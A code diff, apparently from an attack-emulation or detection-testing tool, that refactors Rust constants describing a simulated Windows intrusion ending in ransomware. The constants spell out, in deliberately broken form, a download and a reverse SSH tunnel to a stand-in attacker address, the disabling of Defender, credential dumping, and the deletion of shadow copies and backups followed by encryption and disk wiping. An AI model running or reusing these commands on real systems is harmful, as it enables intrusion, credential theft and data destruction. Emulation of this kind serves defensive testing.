@@ -3,32 +3,18 @@
 
 use crate::attack::aftermath::{Deed, Left, Ransom, RegistryChange, Set};
 use crate::attack::shell::Line;
+use crate::program::{CMD, POWERSHELL};
 use crate::technique::Technique;
 use crate::truth::Weight;
 
-const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
-const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
 const EXPLORER: &str = "C:\\Windows\\explorer.exe";
-
-const fn deed(technique: Technique, parent: &'static str, image: &'static str, command: &'static str) -> Deed {
-    Deed { technique, parent, image, command }
-}
 
 /// Where it works.
 pub(super) const FOLDER: &str = "C:\\PerfLogs\\Reports";
 
-const fn line(
-    technique: Technique,
-    weight: Weight,
-    command: &'static str,
-    programs: &'static [(&'static str, &'static str)],
-) -> Line {
-    Line { technique, weight, shell: POWERSHELL, command, programs }
-}
-
 /// Brought by what a Windows of this age has: `curl` and `tar`, and a tunnel by its own shell for remote work.
 pub(super) const BRING: [Line; 5] = [
-    line(
+    Line::powershell(
         Technique::Download,
         Weight::Must,
         "powershell.exe -nop -c \"cu¦rl.exe -sk https://203.0.113.66/r.tgz -o C:\\PerfLogs\\Reports\\r.tgz\"",
@@ -37,7 +23,7 @@ pub(super) const BRING: [Line; 5] = [
             "\"C:\\Windows\\system32\\cu¦rl.exe\" -sk https://203.0.113.66/r.tgz -o C:\\PerfLogs\\Reports\\r.tgz",
         )],
     ),
-    line(
+    Line::powershell(
         Technique::Download,
         Weight::Supporting,
         "powershell.exe -nop -c \"tar.exe -xf C:\\PerfLogs\\Reports\\r.tgz -C C:\\PerfLogs\\Reports\"",
@@ -46,13 +32,13 @@ pub(super) const BRING: [Line; 5] = [
             "\"C:\\Windows\\system32\\tar.exe\" -xf C:\\PerfLogs\\Reports\\r.tgz -C C:\\PerfLogs\\Reports",
         )],
     ),
-    line(
+    Line::powershell(
         Technique::DefenceOff,
         Weight::Must,
         "powershell.exe -nop -c \"Set-Mp¦Preference -DisableIOAV¦Protection 1 -DisableScript¦Scanning 1 -PUAProtection 0; Add-Mp¦Preference -Exclusion¦Path C:\\PerfLogs\\Reports\"",
         &[],
     ),
-    line(
+    Line::powershell(
         Technique::Tunnel,
         Weight::Must,
         "powershell.exe -nop -c \"ss¦h.exe -o StrictHostKeyChecking=no -i C:\\PerfLogs\\Reports\\k -N -R 13389:127.0.0.1:3389 pf@203.0.113.66 -p 443\"",
@@ -61,7 +47,7 @@ pub(super) const BRING: [Line; 5] = [
             "\"C:\\Windows\\System32\\OpenSSH\\ss¦h.exe\" -o StrictHostKeyChecking=no -i C:\\PerfLogs\\Reports\\k -N -R 13389:127.0.0.1:3389 pf@203.0.113.66 -p 443",
         )],
     ),
-    line(
+    Line::powershell(
         Technique::RegistryChange,
         Weight::Must,
         "powershell.exe -nop -c \"sp 'HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Lsa' DisableRestricted¦Admin 0 -Type DWord\"",
@@ -71,26 +57,26 @@ pub(super) const BRING: [Line; 5] = [
 
 /// Of a desktop that came through the tunnel: a look at the house, passwords, and the way to all other servers.
 pub(super) const DESKTOP: [Deed; 5] = [
-    deed(Technique::Discovery, EXPLORER, "C:\\PerfLogs\\Reports\\nl.exe", "\"C:\\PerfLogs\\Reports\\nl.exe\" "),
-    deed(
+    Deed::new(Technique::Discovery, EXPLORER, "C:\\PerfLogs\\Reports\\nl.exe", "\"C:\\PerfLogs\\Reports\\nl.exe\" "),
+    Deed::new(
         Technique::Discovery,
         EXPLORER,
         "C:\\PerfLogs\\Reports\\SharpShares.exe",
         "\"C:\\PerfLogs\\Reports\\SharpShares.exe\" shares 64",
     ),
-    deed(
+    Deed::new(
         Technique::CredentialDump,
         EXPLORER,
         "C:\\Windows\\System32\\Taskmgr.exe",
         "\"C:\\Windows\\system32\\taskmgr.exe\" /4",
     ),
-    deed(
+    Deed::new(
         Technique::CredentialDump,
         EXPLORER,
         "C:\\PerfLogs\\Reports\\ChromePass.exe",
         "\"C:\\PerfLogs\\Reports\\ChromePass.exe\" /stext C:\\PerfLogs\\Reports\\cp.txt",
     ),
-    deed(
+    Deed::new(
         Technique::LateralMove,
         EXPLORER,
         POWERSHELL,
@@ -100,34 +86,34 @@ pub(super) const DESKTOP: [Deed; 5] = [
 
 /// In the last hour: copies go, repair is switched off, services stand, the disks are opened and packed.
 pub(super) const LAST_HOUR: [Deed; 8] = [
-    deed(
+    Deed::new(
         Technique::Ransom,
         CMD,
         "C:\\Windows\\System32\\diskshadow.exe",
         "disk¦shadow  /s C:\\PerfLogs\\Reports\\del.dsh",
     ),
-    deed(
+    Deed::new(
         Technique::Ransom,
         CMD,
         "C:\\Windows\\System32\\wbadmin.exe",
         "wb¦admin  delete system¦statebackup -keepVersions:0 -quiet",
     ),
-    deed(Technique::Ransom, CMD, "C:\\Windows\\System32\\ReAgentc.exe", "reagent¦c  /dis¦able"),
-    deed(Technique::Ransom, CMD, "C:\\Windows\\System32\\icacls.exe", "ica¦cls  D:\\* /grant Everyone:F /T /C /Q"),
-    deed(
+    Deed::new(Technique::Ransom, CMD, "C:\\Windows\\System32\\ReAgentc.exe", "reagent¦c  /dis¦able"),
+    Deed::new(Technique::Ransom, CMD, "C:\\Windows\\System32\\icacls.exe", "ica¦cls  D:\\* /grant Everyone:F /T /C /Q"),
+    Deed::new(
         Technique::Ransom,
         CMD,
         "C:\\Windows\\System32\\taskkill.exe",
         "task¦kill  /f /im sqlservr.exe /im Microsoft.Exchange.Store.Worker.exe /im edgetransport.exe /im vmwp.exe",
     ),
-    deed(
+    Deed::new(
         Technique::Ransom,
         CMD,
         "C:\\PerfLogs\\Reports\\v.exe",
         "C:\\PerfLogs\\Reports\\v.exe  a -ep3 -df -dw -m0 -hp%K% -x*.exe -x*.dll -r D:\\共有.vlt D:\\共有\\*",
     ),
-    deed(Technique::Ransom, CMD, "C:\\Windows\\System32\\cipher.exe", "cip¦her  /w:D:\\"),
-    deed(
+    Deed::new(Technique::Ransom, CMD, "C:\\Windows\\System32\\cipher.exe", "cip¦her  /w:D:\\"),
+    Deed::new(
         Technique::LogDeletion,
         CMD,
         POWERSHELL,
